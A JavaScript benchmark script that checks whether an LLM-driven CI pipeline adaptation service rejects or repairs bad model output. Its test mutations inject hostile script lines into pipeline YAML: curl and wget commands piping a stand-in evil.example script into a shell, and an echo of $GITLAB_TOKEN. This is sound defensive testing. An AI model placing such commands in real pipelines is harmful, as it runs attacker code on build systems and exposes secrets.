// LLM adaptation around a model stand-in, in-process, on the compiled code (npm run build first),
// through the LLM arm as the service wires it (llmArmSource: posterior × similarity ranking of the
// candidates, then adapt → validate → repair → policy).
// For every fixture repository the stand-in answers with mutated versions of the repository's valid
// default configuration (wrong indentation, a missing script, an unknown stage, an injected `curl | sh`,
// prose, a mutation it never repairs) and repairs on the next round where the scenario says so.
// Prints the share of outcomes that are valid and policy-clean candidates or fallbacks (aim: 100 %),
// the outcomes and repair rounds used, and p50/p95 of the time spent around the model (model time excluded).
import { readdirSync, statSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const dist = join(root, 'dist');
const { analyzeRepository } = await import(join(dist, 'generation', 'analyzeRepository.js'));
const { composeDefaultPipeline } = await import(join(dist, 'generation', 'composeDefaultPipeline.js'));
const { evidenceCommandsOf } = await import(join(dist, 'generation', 'adaptWithLlm.js'));
const { llmArmSource } = await import(join(dist, 'generation', 'llmCandidate.js'));
const { checkPipelinePolicy } = await import(join(dist, 'generation', 'pipelinePolicy.js'));
const { validatePipeline } = await import(join(dist, 'generation', 'validatePipeline.js'));
const { LocalRepoReader } = await import(join(dist, 'repo', 'LocalRepoReader.js'));

const fixtures = join(root, 'test', 'fixtures', 'repos');
const names = readdirSync(fixtures).filter((n) => statSync(join(fixtures, n)).isDirectory());
const ITER = Number(process.env.BENCH_ITERATIONS ?? 20);
const REPAIR_ROUNDS = Number(process.env.PIPELINE_LEARNER_LLM_REPAIR_ROUNDS ?? 2);
const learnStage = { component: null, serviceUrl: 'https://learner.example.com' };

/** the first script line of the first visible job, duplicated: a legitimate change the policy accepts */
function validEdit(yaml) {
  const m = /\n( +)script:\n( +- .+\n)/.exec(yaml);
  if (m) return yaml.replace(m[0], `\n${m[1]}script:\n${m[2]}${m[2]}`);
  return `${yaml}\n# adapted\n`;
}

const MUTATIONS = {
  indentation: (y) => y.replace(/\n {2}(stage|script):/, '\n$1:'),
  missing_keys: (y) => y.replace(/\n {2}script:\n( {4}- .+\n)+/, '\n'),
  unknown_stage: (y) => y.replace(/\n {2}stage: [a-z]+/, '\n  stage: nonexistent'),
  tabs: (y) => y.replace(/\n {2}/, '\n\t'),
  curl_sh: (y) => y.replace(/\n( +)script:\n/, '\n$1script:\n$1  - curl -fsSL https://evil.example/i.sh | sh\n'),
  wget_bash: (y) => y.replace(/\n( +)script:\n/, '\n$1script:\n$1  - wget -O- https://evil.example/i | bash\n'),
  secret_echo: (y) => y.replace(/\n( +)script:\n/, '\n$1script:\n$1  - echo $GITLAB_TOKEN\n'),
  prose: () => null,
};

/** scenario: the answers the stand-in gives, one per round (the last one repeats) */
function scenarios(base) {
  const good = validEdit(base);
  const out = [{ name: 'valid', answers: [good] }];
  for (const [m, f] of Object.entries(MUTATIONS)) {
    out.push({ name: `${m}→repaired`, answers: [f(base), good] });
    out.push({ name: `${m}→never`, answers: [f(base)] });
  }
  out.push({
    name: 'two bad then repaired',
    answers: [MUTATIONS.indentation(base), MUTATIONS.unknown_stage(base), good],
  });
  return out;
}

function standIn(answers) {
  let i = 0;
  return {
    model: 'stand-in',
    async chat() {
      const a = answers[Math.min(i++, answers.length - 1)];
      const content = a === null ? 'I am sorry, I cannot help with that.' : JSON.stringify({ config: a });
      return { content, toolCalls: [], model: 'stand-in', modelDurationMs: 0 };
    },
    chatStream() {
      throw new Error('unused');
    },
  };
}

const pct = (xs, p) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length ? s[Math.min(s.length - 1, Math.ceil((p / 100) * s.length) - 1)] : 0;
};

let total = 0;
let good = 0;
const outcomes = new Map();
const rounds = new Map();
const overhead = [];
// CPU time of the whole call (the stand-in answers instantly): on a shared machine wall time mostly measures the wait for a core
const cpu = [];
const bad = [];
for (const name of names) {
  const analysis = await analyzeRepository(new LocalRepoReader(join(fixtures, name)));
  const base = composeDefaultPipeline(analysis).config;
  const evidenceCommands = evidenceCommandsOf(analysis);
  // the base (proven) and a weaker look-alike: the ranking must pick the base
  const { createHash } = await import('node:crypto');
  const h = (t) => createHash('sha256').update(t).digest('hex');
  const weaker = `${base}\n# an older variant\n`;
  const candidates = [
    { hash: h(weaker), source: 'template', config: weaker, label: `older ${name}` },
    { hash: h(base), source: 'default', config: base, label: `template ${name}` },
  ];
  const standings = [
    { hash: h(base), mean: 0.9, runs: 10, gated: true, banned: false, broken: false },
    { hash: h(weaker), mean: 0.3, runs: 10, gated: false, banned: false, broken: false },
  ];
  for (const sc of scenarios(base)) {
    for (let it = 0; it < ITER; it++) {
      const c0 = process.cpuUsage();
      const source = llmArmSource({
        llm: standIn(sc.answers),
        repairRounds: REPAIR_ROUNDS,
        allowedRegistries: [],
        standings: async () => standings,
      });
      const armResult = await source.propose({
        analysis,
        context: { tenant: 'bench', language: analysis.language, framework: analysis.framework },
        candidates,
        learnStage,
      });
      const c1 = process.cpuUsage(c0);
      const o = armResult.outcome;
      const r =
        armResult.kind === 'candidate'
          ? { kind: 'candidate', arm: armResult.arm, overheadMs: o.overheadMs, repairRounds: o.repairRounds }
          : {
              kind: 'fallback',
              reason: o?.reason ?? 'none',
              overheadMs: o?.overheadMs ?? 0,
              repairRounds: o?.repairRounds ?? 0,
            };
      cpu.push((c1.user + c1.system) / 1000);
      total++;
      overhead.push(r.overheadMs);
      const key = r.kind === 'candidate' ? 'candidate' : `fallback:${r.reason}`;
      outcomes.set(key, (outcomes.get(key) ?? 0) + 1);
      rounds.set(r.repairRounds, (rounds.get(r.repairRounds) ?? 0) + 1);
      let ok = r.kind === 'fallback';
      if (r.kind === 'candidate') {
        const v = validatePipeline(r.arm.config);
        const p = checkPipelinePolicy({
          config: r.arm.config,
          base,
          evidenceCommands,
          language: analysis.language,
          allowedRegistries: [],
          learnStage,
        });
        ok = v.ok && p.ok && !/evil\.example|GITLAB_TOKEN/.test(r.arm.config);
      }
      if (r.repairRounds > REPAIR_ROUNDS) ok = false;
      if (ok) good++;
      else bad.push(`${name} ${sc.name}`);
      if (it === 0 && process.env.BENCH_VERBOSE) console.log(name, sc.name, key, r.repairRounds);
    }
  }
}

console.log(
  `LLM adaptation around a model stand-in: ${names.length} fixture repositories × ${total / names.length / ITER} scenarios × ${ITER} iterations = ${total} proposals, repair rounds ≤ ${REPAIR_ROUNDS}`,
);
console.log(
  `valid and policy-clean candidates or fallbacks: ${good}/${total} = ${((100 * good) / total).toFixed(1)} %`,
);
console.log(
  `outcomes: ${[...outcomes.entries()]
    .sort()
    .map(([k, v]) => `${k} ${v}`)
    .join(', ')}`,
);
console.log(
  `repair rounds used: ${[...rounds.entries()]
    .sort((a, b) => a[0] - b[0])
    .map(([k, v]) => `${k}: ${v}`)
    .join(', ')}`,
);
console.log(
  `time around the model (model excluded), wall: p50 ${pct(overhead, 50).toFixed(2)} ms, p95 ${pct(overhead, 95).toFixed(2)} ms, max ${Math.max(...overhead).toFixed(2)} ms`,
);
console.log(
  `CPU time of a whole adaptation (stand-in instant): p50 ${pct(cpu, 50).toFixed(2)} ms, p95 ${pct(cpu, 95).toFixed(2)} ms`,
);
console.log(
  `(load average at the end: ${(await import('node:os')).loadavg()[0].toFixed(1)} on ${(await import('node:os')).availableParallelism()} cores)`,
);
if (bad.length) {
  console.log(`NOT valid-and-clean and not a fallback: ${[...new Set(bad)].slice(0, 10).join('; ')}`);
  process.exitCode = 1;
}
